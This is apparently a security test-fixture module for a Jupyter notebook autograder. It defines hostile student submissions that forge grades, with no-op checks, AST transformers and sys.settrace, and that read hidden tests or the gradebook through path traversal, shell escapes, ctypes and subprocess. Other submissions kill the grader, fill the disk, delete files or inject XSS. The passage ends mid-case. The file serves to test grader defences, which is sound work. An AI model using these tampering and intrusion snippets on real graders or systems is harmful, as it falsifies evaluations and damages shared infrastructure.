"""Hostile and broken submissions of 02-gru-numpy, with the outcome each must get from this grader.

Every submission is a code transformation of the released (student) notebook with the model answers filled in
(``autograder.corpus.solved``), so nothing big is committed. Used by tests/test_autograder_security.py (all cases
in one ``python -m autograder grade`` run) and by benchmarks/security_table.py (the same cases through plain
``nbgrader autograde`` too).

An attack that succeeds prints its ``evidence`` marker (e.g. ``LEAKED-HIDDEN-TESTS`` when it could read hidden
tests): the marker must never appear in what this grader writes, and the benchmark reports it for nbgrader. Paths
in the attacks are those of ``nbgrader autograde``, which runs a notebook in
``<course>/autograder/autograded/<student>/<assignment>/``: ``../../../gradebook.db`` is its gradebook and
``../../../../solutions/`` the instructor notebooks.
"""

import copy
import dataclasses
import json
from pathlib import Path

import nbformat

from autograder import corpus
from autograder.assignment import cell_kind, grade_id

ASSIGNMENT = "02-gru-numpy"
NOTEBOOK = "gru_numpy"
MAX_SCORE = 10
POINTS = {"gru_cell_forward": 4, "gru_forward": 4, "gru_cell_forward_cho": 2}


@dataclasses.dataclass
class Context:
    """What a case is built from."""

    root: Path  # the course root the grader uses (absolute paths of the attacks point into it)
    released: nbformat.NotebookNode  # the student notebook, as released by nbgrader
    instructor: nbformat.NotebookNode  # solutions/02-gru-numpy
    other_released: nbformat.NotebookNode  # course/01-gru-concept (for "a notebook of another assignment")
    other_instructor: nbformat.NotebookNode
    port: int = 9  # a local TCP port that a listener may watch (the network attack connects to it)

    @property
    def solved(self):
        return corpus.solved(self.released, self.instructor)


@dataclasses.dataclass(frozen=True)
class Case:
    """One submission: how to build it and what this grader must make of it."""

    name: str
    attack: str  # one line for the table
    build: object  # Context -> notebook (or bytes for a broken file)
    score: float
    status: str = "graded"
    flags: tuple = ()  # every flag of the row starts with one of these, and each of these starts some flag
    evidence: str | None = None  # printed by the attack when it succeeds
    files: tuple = ()  # (relative path, text) handed in next to the notebook
    folder: str | None = None  # the hand-in folder (the student id), when it is not ``name``
    notebook_file: str | None = None  # the notebook's file name, when it is not the assignment's
    reviewed: bool = False  # honest work whose habits the review may flag ("policy:..." flags tolerated)

    @property
    def student(self):
        return self.folder or self.name

    def expected(self):
        """This grader's outcome, as the table shows it."""
        text = f"{self.score:g}/{MAX_SCORE} {self.status}"
        return text + (f" [{', '.join(self.flags)}]" if self.flags else "")


def outcome(row, flag_prefixes, reviewed=False):
    """The outcome text of a grades.csv row, flags shown by the prefixes they match (see Case.expected);
    ``reviewed``: policy flags are left out (honest habits the review may report)."""
    flags = [f for f in row["flags"].split(";") if f and not (reviewed and f.startswith("policy:"))]
    shown = [p for p in flag_prefixes if any(f.startswith(p) for f in flags)]
    unexplained = [f for f in flags if not any(f.startswith(p) for p in flag_prefixes)]
    text = f"{float(row['score']):g}/{float(row['max_score']):g} {row['status']}"
    text += f" [{', '.join(shown + unexplained)}]" if shown or unexplained else ""
    return text


# ----------------------------------------------------------------------------------------------------------------
# Notebook transformations
# ----------------------------------------------------------------------------------------------------------------

def _copy(notebook):
    return copy.deepcopy(notebook)


def with_solution(notebook, target, source):
    """``notebook`` with the solution cell of ``target`` (its grade id) replaced by ``source``."""
    notebook = _copy(notebook)
    cell = next(c for c in notebook.cells if cell_kind(c) == "solution" and grade_id(c) == target)
    cell.source = source
    return notebook


def with_cell(notebook, source, after="setup", name="extra"):
    """``notebook`` with a new code cell (the learner's own) after the cell whose grade id or id is ``after``."""
    notebook = _copy(notebook)
    index = next(i for i, c in enumerate(notebook.cells) if after in (grade_id(c), c.get("id")))
    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(source, id=f"learner-{name}"))
    return notebook


WRONG = {
    "gru_cell_forward": "def gru_cell_forward(x, h_prev, params):\n    return np.zeros_like(h_prev)",
    "gru_forward": "def gru_forward(xs, h0, params):\n    hs = np.zeros((len(xs),) + h0.shape)\n    return hs, hs[-1]",
    "gru_cell_forward_cho": "def gru_cell_forward_cho(x, h_prev, params):\n    return np.zeros_like(h_prev)",
}


def all_wrong(notebook):
    for target, source in WRONG.items():
        notebook = with_solution(notebook, target, source)
    return notebook


# -- correct code written in unusual ways -----------------------------------------------------------------------

EINSUM = {
    "gru_cell_forward": '''\
def gru_cell_forward(x, h_prev, params):
    p = params
    lin = lambda W, v, b: np.einsum("bi,hi->bh", v, W) + b
    r = sigmoid(lin(p["W_ir"], x, p["b_ir"]) + lin(p["W_hr"], h_prev, p["b_hr"]))
    z = sigmoid(lin(p["W_iz"], x, p["b_iz"]) + lin(p["W_hz"], h_prev, p["b_hz"]))
    n = np.tanh(lin(p["W_in"], x, p["b_in"]) + r * lin(p["W_hn"], h_prev, p["b_hn"]))
    return n + z * (h_prev - n)''',
    "gru_forward": '''\
def gru_forward(xs, h0, params):
    states = [h0]
    for x in xs:
        states.append(gru_cell_forward(x, states[-1], params))
    hs = np.stack(states[1:])
    return hs, hs[-1]''',
    "gru_cell_forward_cho": '''\
def gru_cell_forward_cho(x, h_prev, params):
    p = params
    lin = lambda W, v, b: np.einsum("bi,hi->bh", v, W) + b
    r = sigmoid(lin(p["W_ir"], x, p["b_ir"]) + lin(p["W_hr"], h_prev, p["b_hr"]))
    z = sigmoid(lin(p["W_iz"], x, p["b_iz"]) + lin(p["W_hz"], h_prev, p["b_hz"]))
    n = np.tanh(lin(p["W_in"], x, p["b_in"]) + lin(p["W_hn"], r * h_prev, p["b_hn"]))
    return (1 - z) * n + z * h_prev''',
}

LOOPS = {
    "gru_cell_forward": '''\
def gru_cell_forward(x, h_prev, params):
    # one hidden unit of one example at a time: no matrix product at all
    p = params
    B, H = h_prev.shape
    h_next = np.empty((B, H), dtype=np.result_type(x, h_prev, p["W_ir"]))
    dot = lambda row, v: sum(row[i] * v[i] for i in range(len(v)))
    for b in range(B):
        for j in range(H):
            r = sigmoid(dot(p["W_ir"][j], x[b]) + p["b_ir"][j] + dot(p["W_hr"][j], h_prev[b]) + p["b_hr"][j])
            z = sigmoid(dot(p["W_iz"][j], x[b]) + p["b_iz"][j] + dot(p["W_hz"][j], h_prev[b]) + p["b_hz"][j])
            n = np.tanh(dot(p["W_in"][j], x[b]) + p["b_in"][j] + r * (dot(p["W_hn"][j], h_prev[b]) + p["b_hn"][j]))
            h_next[b, j] = (1 - z) * n + z * h_prev[b, j]
    return h_next''',
    "gru_forward": '''\
def gru_forward(xs, h0, params):
    hs = []
    h = h0
    t = 0
    while t < len(xs):
        h = gru_cell_forward(xs[t], h, params)
        hs.append(h)
        t += 1
    return np.array(hs), h''',
    "gru_cell_forward_cho": '''\
def gru_cell_forward_cho(x, h_prev, params):
    p = params
    out = []
    for b in range(h_prev.shape[0]):
        r = sigmoid(p["W_ir"] @ x[b] + p["b_ir"] + p["W_hr"] @ h_prev[b] + p["b_hr"])
        z = sigmoid(p["W_iz"] @ x[b] + p["b_iz"] + p["W_hz"] @ h_prev[b] + p["b_hz"])
        n = np.tanh(p["W_in"] @ x[b] + p["b_in"] + p["W_hn"] @ (r * h_prev[b]) + p["b_hn"])
        out.append((1 - z) * n + z * h_prev[b])
    return np.stack(out)''',
}

FLOAT32 = {  # keeps float32 inputs in float32 (and float64 in float64), its own sigmoid through tanh
    "gru_cell_forward": '''\
def _sig(a):
    return 0.5 * (1 + np.tanh(0.5 * a))


def gru_cell_forward(x, h_prev, params):
    dt = np.result_type(x, h_prev)
    p = {k: v.astype(dt) for k, v in params.items()}
    x, h_prev = x.astype(dt), h_prev.astype(dt)
    gates_x = x @ np.concatenate([p["W_ir"], p["W_iz"], p["W_in"]]).T
    gates_h = h_prev @ np.concatenate([p["W_hr"], p["W_hz"], p["W_hn"]]).T
    H = h_prev.shape[1]
    r = _sig(gates_x[:, :H] + p["b_ir"] + gates_h[:, :H] + p["b_hr"])
    z = _sig(gates_x[:, H:2 * H] + p["b_iz"] + gates_h[:, H:2 * H] + p["b_hz"])
    n = np.tanh(gates_x[:, 2 * H:] + p["b_in"] + r * (gates_h[:, 2 * H:] + p["b_hn"]))
    return ((1 - z) * n + z * h_prev).astype(dt)''',
    "gru_forward": '''\
def gru_forward(xs, h0, params):
    hs = np.zeros((xs.shape[0],) + h0.shape, dtype=np.result_type(xs, h0))
    h = h0
    for t, x in enumerate(xs):
        h = hs[t] = gru_cell_forward(x, h, params)
    return hs, hs[-1]''',
    "gru_cell_forward_cho": '''\
def gru_cell_forward_cho(x, h_prev, params):
    dt = np.result_type(x, h_prev)
    p = {k: v.astype(dt) for k, v in params.items()}
    r = _sig(x @ p["W_ir"].T + p["b_ir"] + h_prev @ p["W_hr"].T + p["b_hr"])
    z = _sig(x @ p["W_iz"].T + p["b_iz"] + h_prev @ p["W_hz"].T + p["b_hz"])
    n = np.tanh(x @ p["W_in"].T + p["b_in"] + (r * h_prev) @ p["W_hn"].T + p["b_hn"])
    return (1 - z) * n + z * h_prev''',
}


def _answers(answers):
    def build(ctx):
        notebook = ctx.solved
        for target, source in answers.items():
            notebook = with_solution(notebook, target, source)
        return notebook
    return build


# -- the attacks ----------------------------------------------------------------------------------------------------

NOOP_CHECKS = """\
import coursekit.checking
np.testing.assert_allclose = lambda *args, **kwargs: None
coursekit.checking.check = lambda *args, **kwargs: None  # what this course's test cells call"""

RENAMED_CHECKS = "check_cell_forward = check_gru_forward = check_cell_forward_cho = lambda *args, **kwargs: None"

AST_TRANSFORMER = """\
import ast


class SkipChecks(ast.NodeTransformer):
    # every statement that calls a check_... function becomes `pass`
    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, ast.Call) and getattr(call.func, "id", "").startswith("check"):
            return ast.Pass()
        return node


get_ipython().ast_transformers.append(SkipChecks())"""

TORCH_VF = '''\
def gru_cell_forward(x, h_prev, params):
    import torch
    stack = lambda *keys: torch.from_numpy(np.concatenate([params[k] for k in keys]))
    h = torch._VF.gru_cell(torch.from_numpy(x), torch.from_numpy(h_prev), stack("W_ir", "W_iz", "W_in"),
                           stack("W_hr", "W_hz", "W_hn"), stack("b_ir", "b_iz", "b_in"), stack("b_hr", "b_hz", "b_hn"))
    return h.numpy()'''

COURSE_REFERENCE = '''\
def gru_forward(xs, h0, params):
    hs, _ = gru.forward(xs, h0, params)
    return hs, hs[-1]'''

SYS_MODULES = """\
import sys
reference = sys.modules["coursekit.gru"]"""

SYS_MODULES_CHO = '''\
def gru_cell_forward_cho(x, h_prev, params):
    return reference.cell_forward(x, h_prev, params, reset="before")[0]'''

DUNDER_IMPORT = '''\
def gru_cell_forward_cho(x, h_prev, params):
    ref = __import__("coursekit.gru", fromlist=["cell_forward"])
    return ref.cell_forward(x, h_prev, params, reset="before")[0]'''

SQLITE_WRITE = """\
import sqlite3
try:
    db = sqlite3.connect("../../../gradebook.db")
    db.execute("UPDATE grade SET extra_credit = 50.5")
    db.commit()
    print("GRADEBOOK-WRITTEN", db.total_changes)
except Exception as exc:
    print("no gradebook:", exc)"""

SQLITE_READ = """\
import sqlite3
try:
    db = sqlite3.connect("file:../../../gradebook.db?mode=ro", uri=True)
    rows = [row[0] for row in db.execute("SELECT source FROM source_cell")]
    if any("hidden=True" in source for source in rows):
        print("LEAKED-HIDDEN-TESTS", [source for source in rows if "hidden=True" in source][:3])
except Exception as exc:
    print("no gradebook:", exc)"""

READ_SOLUTIONS = """\
try:
    text = open("../../../../solutions/02-gru-numpy/gru_numpy.ipynb").read()
    if "BEGIN HIDDEN TESTS" in text:
        print("LEAKED-HIDDEN-TESTS", text[text.index("BEGIN HIDDEN TESTS"):][:300])
except OSError as exc:
    print("cannot read:", exc)"""

WALK = """\
import os
# no path literal, no "..": climb from the working folder by splitting on chr(47)
top = os.getcwd().rsplit(chr(47), 4)[0] or chr(47)
found = []
for folder, subfolders, files in os.walk(top):
    subfolders[:] = [d for d in subfolders if d not in ("usr", "proc", "sys", "dev", "site-packages")]
    for name in files:
        if name.endswith(".ipynb"):
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    data = file.read(5_000_000)
            except OSError:
                continue
            if b"BEGIN HIDDEN TESTS" in data:
                found.append(os.path.join(folder, name))
print("LEAKED-HIDDEN-TESTS" if found else "nothing found", found[:5])"""

ENV_PROBE = """\
import os
if "NBGRADER_EXECUTION" in os.environ:
    print("PROBE-FOUND", os.environ["NBGRADER_EXECUTION"])"""

ALWAYS_EQUAL = '''\
class AlwaysEqual:
    shape = property(lambda self: (1,))
    def __eq__(self, other):
        return True
    def __array__(self, *args, **kwargs):
        return np.zeros(1)


def gru_cell_forward(x, h_prev, params):
    return AlwaysEqual()'''

BUILTINS = """\
import builtins
builtins.abs = lambda value: 0 * value
builtins.float = lambda *args: 0.0"""

SETTRACE = """\
import sys


def _copy_expected(frame, event, arg):
    # when the checker compares an output with the expected value, overwrite the output in place
    if event == "call" and frame.f_code.co_name == "_mismatch":
        out, expected = frame.f_locals.get("output"), frame.f_locals.get("expected")
        if getattr(out, "shape", None) == getattr(expected, "shape", 0) and getattr(out, "flags", None) is not None \\
                and out.flags.writeable:
            out[...] = expected
    return None


sys.settrace(_copy_expected)"""

FORK = """\
import os, time
if os.fork() == 0:  # the child outlives the cell (for two minutes at most)
    with open("forked.pid", "w") as file:
        file.write(str(os.getpid()))
    deadline = time.time() + 120
    while time.time() < deadline:
        time.sleep(0.5)
    os._exit(0)"""

FILL_DISK = """\
written = 0
try:
    for i in range(20):  # 1 GB at most, in files of 50 MB
        with open(f"fill-{i}.bin", "wb") as file:
            file.write(b"\\0" * (50 * 2**20))
        written += 50
except OSError as exc:
    print("stopped after", written, "MB:", exc)
if written >= 1000:
    print("DISK-FILLED", written, "MB")"""

ALLOCATE = """\
big = np.ones(2**27)  # 1 GiB, every page touched
print(big.nbytes // 2**20, "MiB allocated")
del big"""

GIANT_LINE = "print('x' * 20_000_000)"

DELETE_NOTEBOOK = """\
import glob, os
for path in glob.glob("*.ipynb"):
    os.remove(path)
    print("DELETED-NOTEBOOK", path)"""

KILL_GRADER = """\
import os, signal
os.kill(os.getppid(), signal.SIGKILL)"""

NETWORK_PAYLOAD = b"answers of another student"
NETWORK = """\
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
        connection.sendall(b"answers of another student")
        print("CONNECTED")
except OSError as exc:
    print("no network:", exc)"""

SHELL = ("!cat ../../../../solutions/02-gru-numpy/gru_numpy.ipynb | grep -c 'BEGIN HIDDEN TESTS' "
         "&& echo LEAKED-HIDDEN-TESTS")

CTYPES = """\
import ctypes
libc = ctypes.CDLL(None)
if libc.system(b"cat ../../../../solutions/02-gru-numpy/gru_numpy.ipynb | grep -q 'BEGIN HIDDEN' ") == 0:
    print("LEAKED-HIDDEN-TESTS")"""

SUBPROCESS = """\
import subprocess
done = subprocess.run(["grep", "-c", "BEGIN HIDDEN", "../../../../solutions/02-gru-numpy/gru_numpy.ipynb"],
                      capture_output=True, text=True)
if done.returncode == 0:
    print("LEAKED-HIDDEN-TESTS", done.stdout)"""

OS_EXIT = '''\
def gru_forward(xs, h0, params):
    hs, _ = None, None
    return hs


import os
os._exit(3)'''


# -- forging scores from inside the kernel (the kernel holds no answer: each must get what its own code earns) ----

FORGE_RUN_ITEM = """\
import coursekit
import coursekit.checking, coursekit.items, coursekit.gru
_ck = coursekit.checking
_ck.run_item = lambda item, namespace, seed, hidden=True: {"missing": False, "outcomes": [
    {"output": item.reference(*case.args), "error": None, "modified_input": False, "warnings": []}
    for case in _ck.cases_for(item, seed, hidden)]}"""

FORGE_HARNESS = """\
import coursekit.harness as _h
def _forged(namespace, request):
    from coursekit import gru  # compute the right answer from the reference, if it were here
    outs = [gru.cell_forward(*call["args"])[0] for call in request["calls"]]
    return {"missing": False, "outcomes": tuple({"output": o, "error": None, "modified_input": False,
                                                  "warnings": (), "measures": {}} for o in outs)}
_h.evaluate = _forged"""

FORGE_ATTRGETTER = '''\
import operator, sys
def gru_cell_forward(x, h_prev, params):
    return operator.attrgetter("mod" + "ules")(sys)["coursekit" + ".gru"].cell_forward(x, h_prev, params)[0]'''

FORGE_IPYTHON_EX_CODE = ("from coursekit import gru as _g\n"
                         "gru_cell_forward = lambda x, h, p: _g.cell_forward(x, h, p)[0]\n")
FORGE_IPYTHON_EX = ("import base64\nget_ipython().ex(base64.b64decode("
                    + repr(__import__("base64").b64encode(FORGE_IPYTHON_EX_CODE.encode()).decode())
                    + ").decode())")

WALRUS = '''\
def gru_cell_forward(x, h_prev, params):
    return (g := __import__("coursekit.gru", fromlist=["x"])).cell_forward(x, h_prev, params)[0]'''

DEFAULT_ARGUMENT = '''\
from coursekit import gru
def gru_cell_forward(x, h_prev, params, gru=gru):
    return gru.cell_forward(x, h_prev, params)[0]'''

GETATTR_MODULES = '''\
import sys
def gru_forward(xs, h0, params):
    hs, _ = getattr(sys, "modules")["coursekit.gru"].forward(xs, h0, params)
    return hs, hs[-1]'''

TORCH_IN_DICT = '''\
TOOLS = {"t": __import__("torch")}
def gru_cell_forward(x, h_prev, params):
    t = TOOLS["t"]
    cell = t.nn.GRUCell(x.shape[1], h_prev.shape[1], dtype=t.float64)
    with t.no_grad():
        cell.weight_ih.copy_(t.from_numpy(np.concatenate([params[k] for k in ("W_ir", "W_iz", "W_in")])))
        cell.weight_hh.copy_(t.from_numpy(np.concatenate([params[k] for k in ("W_hr", "W_hz", "W_hn")])))
        cell.bias_ih.copy_(t.from_numpy(np.concatenate([params[k] for k in ("b_ir", "b_iz", "b_in")])))
        cell.bias_hh.copy_(t.from_numpy(np.concatenate([params[k] for k in ("b_hr", "b_hz", "b_hn")])))
        return cell(t.from_numpy(x), t.from_numpy(h_prev)).numpy()'''

EXCEPT_AS = '''\
try:
    raise LookupError(__import__("coursekit.gru", fromlist=["x"]))
except LookupError as smuggled:
    REFERENCE = smuggled.args[0]
def gru_cell_forward_cho(x, h_prev, params):
    return REFERENCE.cell_forward(x, h_prev, params, reset="before")[0]'''

TIME_MAGIC = '''\
%%time
from coursekit import gru
def gru_cell_forward(x, h_prev, params):
    return gru.cell_forward(x, h_prev, params)[0]'''

TIMEIT_OPTIONS = "%timeit -n1 -r1 import coursekit.gru as G"
TIMEIT_ANSWER = '''\
def gru_cell_forward(x, h_prev, params):
    return G.cell_forward(x, h_prev, params)[0]'''

HELPER_FILE = ("shortcuts.py", "from coursekit.gru import cell_forward\n\n\ndef step(x, h, p):\n"
               "    return cell_forward(x, h, p)[0]\n")
HELPER_ANSWER = '''\
from shortcuts import step
def gru_cell_forward(x, h_prev, params):
    return step(x, h_prev, params)'''

NEAR_COPY = '''\
# a near-copy of the notebook's torch comparison cell, with the answer taken from torch
rnn_cell = torch.nn.GRUCell(5, 6, dtype=torch.float64)
def gru_cell_forward(x, h_prev, params):
    with torch.no_grad():
        rnn_cell.weight_ih.copy_(torch.from_numpy(np.concatenate([params[k] for k in ("W_ir", "W_iz", "W_in")])))
        rnn_cell.weight_hh.copy_(torch.from_numpy(np.concatenate([params[k] for k in ("W_hr", "W_hz", "W_hn")])))
        rnn_cell.bias_ih.copy_(torch.from_numpy(np.concatenate([params[k] for k in ("b_ir", "b_iz", "b_in")])))
        rnn_cell.bias_hh.copy_(torch.from_numpy(np.concatenate([params[k] for k in ("b_hr", "b_hz", "b_hn")])))
        return rnn_cell(torch.from_numpy(x), torch.from_numpy(h_prev)).numpy()'''

DEEP_EXPRESSION = "depth = " + "+".join(["1"] * 5_000)  # deeper than Python's parser can turn into a tree

DEEP_AND_REFERENCE = DEEP_EXPRESSION + '''
from coursekit import gru as _deep
def gru_cell_forward(x, h_prev, params):
    return _deep.cell_forward(x, h_prev, params)[0]'''

METADATA_FLOOD = """\
from IPython.display import display
for i in range(25):
    display({"text/plain": "."}, raw=True, metadata={"text/plain": {"padding": "m" * 2_000_000}})"""

ACTIVE_CONTENT = """\
from IPython.display import HTML, Javascript, display
display(HTML('<b>hi</b><script>document.title = "SCRIPT-RAN"</script><img src=x onerror="alert(1)">'))
display(Javascript('document.title = "SCRIPT-RAN"'))"""
ACTIVE_MARKDOWN = ('Nice <a href="javascript:alert(1)">link</a> <svg onload="alert(1)"></svg> '
                   '[click](javascript:alert(2))')

SURROGATE_ERROR = '''\
def gru_forward(xs, h0, params):
    raise ValueError("\\udc80 \\x1b[2J")'''

# -- honest habits: with the model answers, each must keep full marks ---------------------------------------------

HABITS = {
    "habit-matplotlib-retina": "%matplotlib inline\n%config InlineBackend.figure_format = 'retina'",
    "habit-pip-install": "!pip install numpy",
    "habit-percent-pip": "%pip install numpy",
    "habit-ls": "!ls",
    "habit-autoreload": "%load_ext autoreload\n%autoreload 2",
    "habit-inspect": "import inspect\nprint(inspect.signature(gru_cell_forward))",
    "habit-gc": "import gc\ngc.collect()",
    "habit-environ": "import os\nos.environ['OMP_NUM_THREADS'] = '1'\nprint(os.environ.get('HOME'))",
    "habit-rate-print": "rate = 1234.5\nprint(f'{rate:.0f}/s')",
    "habit-subprocess": "import subprocess\nprint(subprocess.run(['echo', 'hi'], capture_output=True, text=True).stdout)",
    "habit-thread": "import threading\nt = threading.Thread(target=lambda: None)\nt.start()\nt.join()",
    "habit-help": "help(np.tanh)",
    "habit-plot": "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.show()",
    "habit-own-torch-check": ("import torch\ncell = torch.nn.GRUCell(5, 6, dtype=torch.float64)\n"
                              "print(cell(torch.zeros(1, 5, dtype=torch.float64)).shape)"),
    "habit-timeit": "%timeit -n1 -r1 np.tanh(np.ones(3))",
    "habit-capture": "%%capture output\nprint('quiet')",
}

HABIT_HELPER_FILE = ("mygates.py", "import numpy as np\n\n\ndef sigmoid(a):\n    return 0.5 * (1 + np.tanh(0.5 * a))\n")


def _prefixed_answer(prefix, target="gru_cell_forward"):
    """The model answer of ``target`` with ``prefix`` (a habit) in front of it, in the same cell."""
    def build(ctx):
        source = next(c.source for c in ctx.instructor.cells if cell_kind(c) == "solution" and grade_id(c) == target)
        return with_solution(ctx.solved, target, prefix + source)
    return build


def _with_markdown(ctx, text):
    notebook = _copy(ctx.solved)
    notebook.cells.insert(2, nbformat.v4.new_markdown_cell(text, id="learner-markdown"))
    return notebook


def _absolute_gradebook(ctx):
    path = ctx.root / "autograder" / "gradebook.db"
    return with_cell(ctx.solved, f"""\
try:
    with open({str(path)!r}, "r+b") as file:
        file.write(b"overwritten")
        print("GRADEBOOK-WRITTEN")
except OSError as exc:
    print("cannot write:", exc)""", after="cell-test", name="gradebook")


def _truncated(ctx):
    text = json.dumps(ctx.solved)
    return text[: len(text) // 2].encode()


def _other_assignment(ctx):
    return corpus.solved(ctx.other_released, ctx.other_instructor)


def _duplicated_ids(ctx):
    """A copy of the first test cell (same id and metadata) that disarms the function, placed before the real one;
    the real test cell is then the duplicate."""
    notebook = _copy(ctx.solved)
    index = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == "test_gru_cell_forward")
    fake = copy.deepcopy(notebook.cells[index])
    fake.source = "gru_cell_forward = lambda *args: 0"
    notebook.cells.insert(index, fake)
    return notebook


def _edited_tests(ctx):
    """Wrong gru_forward; its test cell emptied and stripped of metadata; the Cho test cell deleted."""
    notebook = with_solution(ctx.solved, "gru_forward", WRONG["gru_forward"])
    for cell in notebook.cells:
        if grade_id(cell) == "test_gru_forward":
            cell.source = "pass"
            del cell.metadata["nbgrader"]
    notebook.cells = [c for c in notebook.cells if grade_id(c) != "test_gru_cell_forward_cho"]
    return notebook


def _cell_then_wrong(source, name):
    return lambda ctx: with_cell(all_wrong(ctx.solved), source, name=name)


def _cell(source, name, after="setup"):
    return lambda ctx: with_cell(ctx.solved, source if "{port}" not in source else source.format(port=ctx.port),
                                 after=after, name=name)


CASES = (
    # honest work, also written in unusual ways: full marks, no flag
    Case("honest", "honest: the model answers", lambda ctx: ctx.solved, 10),
    Case("honest-einsum", "honest: np.einsum instead of @, h' = n + z (h - n)", _answers(EINSUM), 10),
    Case("honest-loops", "honest: Python loops instead of matrix products", _answers(LOOPS), 10),
    Case("honest-float32", "honest: keeps float32 in float32, own sigmoid via tanh", _answers(FLOAT32), 10),
    Case("blank", "the released notebook, nothing answered", lambda ctx: ctx.released, 0),
    # forging the verdict
    Case("noop-checks", "wrong code + np.testing.assert_allclose and coursekit.checking.check replaced by no-ops",
         _cell_then_wrong(NOOP_CHECKS, "noop"), 0, flags=("policy:grading-machinery", "policy:monkeypatch")),
    Case("renamed-checks", "wrong code + the notebook's check_* names rebound to no-ops",
         _cell_then_wrong(RENAMED_CHECKS, "rename"), 0),
    Case("ast-transformer", "wrong code + an IPython AST transformer that deletes the check calls",
         _cell_then_wrong(AST_TRANSFORMER, "transformer"), 0, flags=("policy:ipython-hooks",)),
    Case("settrace", "wrong code + sys.settrace overwriting the output inside the checker",
         _cell_then_wrong(SETTRACE, "trace"), 0, flags=("policy:tracing",)),
    Case("builtins", "wrong code + builtins.abs and builtins.float replaced",
         _cell_then_wrong(BUILTINS, "builtins"), 0, flags=("policy:builtins", "policy:monkeypatch")),
    Case("always-equal", "gru_cell_forward returns an object whose __eq__ is always True",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", ALWAYS_EQUAL), 6),
    # using the reference instead of writing the code
    Case("torch-vf", "gru_cell_forward calls torch._VF.gru_cell",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", TORCH_VF), 6, flags=("policy:reference",)),
    Case("course-reference", "gru_forward calls the course's own gru.forward",
         lambda ctx: with_solution(ctx.solved, "gru_forward", COURSE_REFERENCE), 6, flags=("policy:reference",)),
    Case("sys-modules", "gru_cell_forward_cho takes coursekit.gru from sys.modules",
         lambda ctx: with_solution(with_cell(ctx.solved, SYS_MODULES, name="modules"), "gru_cell_forward_cho",
                                   SYS_MODULES_CHO), 8, flags=("policy:dynamic-code",)),
    Case("dunder-import", "gru_cell_forward_cho imports the reference with __import__",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward_cho", DUNDER_IMPORT), 8,
         flags=("policy:dynamic-code",)),
    # the gradebook, solutions and hidden tests
    Case("gradebook-write", "sqlite3 writes extra credit into ../../../gradebook.db", _cell(SQLITE_WRITE, "sqlw"), 10,
         flags=("policy:database", "policy:outside-path"), evidence="GRADEBOOK-WRITTEN"),
    Case("gradebook-read", "sqlite3 reads the hidden tests from the gradebook's source_cell table",
         _cell(SQLITE_READ, "sqlr"), 10, flags=("policy:database", "policy:outside-path"),
         evidence="LEAKED-HIDDEN-TESTS"),
    Case("gradebook-absolute", "overwrites the gradebook by its absolute path", _absolute_gradebook, 10,
         flags=("policy:database", "policy:outside-path"), evidence="GRADEBOOK-WRITTEN"),
    Case("read-solutions", "open() of ../../../../solutions/ (the instructor notebook)", _cell(READ_SOLUTIONS, "read"),
         10, flags=("policy:outside-path",), evidence="LEAKED-HIDDEN-TESTS"),
    Case("walk-filesystem", "searches every folder above it for hidden tests (no path literal: passes the review)",
         _cell(WALK, "walk"), 10, evidence="LEAKED-HIDDEN-TESTS"),
    Case("shell-escape", "!cat of the instructor notebook", _cell(SHELL, "shell"), 10,
         flags=("policy:ipython-hooks", "policy:outside-path"), evidence="LEAKED-HIDDEN-TESTS"),
    Case("ctypes", "ctypes calls libc system() to read the solutions", _cell(CTYPES, "ctypes"), 10,
         flags=("policy:native-code", "policy:outside-path"), evidence="LEAKED-HIDDEN-TESTS"),
    Case("subprocess", "subprocess greps the solutions", _cell(SUBPROCESS, "subprocess"), 10,
         flags=("policy:process", "policy:outside-path"), evidence="LEAKED-HIDDEN-TESTS"),
    Case("env-probe", "checks NBGRADER_EXECUTION to behave differently when graded", _cell(ENV_PROBE, "env"), 10,
         flags=("policy:environment",), evidence="PROBE-FOUND"),
    Case("network", "sends data to a local TCP port", _cell(NETWORK, "network"), 10, flags=("policy:network",),
         evidence="CONNECTED"),
    # the machine
    Case("fork", "forks a process that outlives the cell", _cell(FORK, "fork"), 10,
         flags=("policy:process", "policy:exit")),
    Case("kill-grader", "SIGKILL to its parent process (the grader)", _cell(KILL_GRADER, "kill", after="cho-test"), 10,
         flags=("policy:process",)),
    Case("os-exit", "os._exit in the gru_forward cell", lambda ctx: with_solution(ctx.solved, "gru_forward", OS_EXIT),
         6, status="incomplete", flags=("policy:exit", "crash")),
    Case("fill-disk", "writes 1 GB of files into its folder", _cell(FILL_DISK, "fill"), 10, evidence="DISK-FILLED"),
    Case("allocate-1gb", "allocates and touches 1 GiB", _cell(ALLOCATE, "allocate"), 10),
    Case("giant-line", "prints 20 MB on one line", _cell(GIANT_LINE, "giant"), 10),
    Case("delete-notebook", "deletes the notebook files of its folder", _cell(DELETE_NOTEBOOK, "delete"), 10,
         evidence="DELETED-NOTEBOOK"),
    # forging scores from inside the kernel: the kernel holds no answer, so each gets what its own code earns
    Case("forge-run-item", "wrong code + coursekit.checking.run_item replaced by one returning item.reference(...)",
         _cell_then_wrong(FORGE_RUN_ITEM, "forge"), 0, flags=("policy:grading-machinery",)),
    Case("forge-harness", "wrong code + coursekit.harness.evaluate replaced by one computing the reference",
         _cell_then_wrong(FORGE_HARNESS, "harness"), 0, flags=("policy:monkeypatch",)),
    Case("forge-attrgetter", "gru_cell_forward takes coursekit.gru via operator.attrgetter(\"mod\" + \"ules\")(sys)",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", FORGE_ATTRGETTER), 6),
    Case("forge-ipython-ex", "wrong code + get_ipython().ex() of base64 code that binds the reference",
         _cell_then_wrong(FORGE_IPYTHON_EX, "ex"), 0, flags=("policy:",)),
    Case("walrus", "gru_cell_forward binds the reference with a walrus inside __import__",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", WALRUS), 6, flags=("policy:",)),
    Case("default-argument", "def gru_cell_forward(x, h_prev, params, gru=gru): the reference as a default",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", DEFAULT_ARGUMENT), 6, flags=("policy:",)),
    Case("getattr-modules", "gru_forward uses getattr(sys, \"modules\")[\"coursekit.gru\"]",
